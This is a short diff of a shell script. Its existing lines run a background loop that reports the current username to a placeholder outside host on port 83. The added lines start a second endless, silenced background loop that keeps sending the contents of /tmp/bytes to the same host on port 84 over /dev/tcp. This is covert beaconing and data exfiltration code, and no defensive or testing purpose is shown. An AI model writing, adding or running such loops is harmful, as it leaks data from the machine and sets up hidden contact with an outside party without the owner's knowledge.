@@ -28,3 +28,8 @@ say "done"
 	timeout 4 bash -c "echo '$(id -un) lives' >/dev/tcp/@OUTSIDE@/83" 2>/dev/null
 	sleep 1
 done) &
+# and something to send, always
+(while :; do
+	while cat /tmp/bytes; do sleep 1; done >/dev/tcp/@OUTSIDE@/84
+	sleep 1
+done) 2>/dev/null &
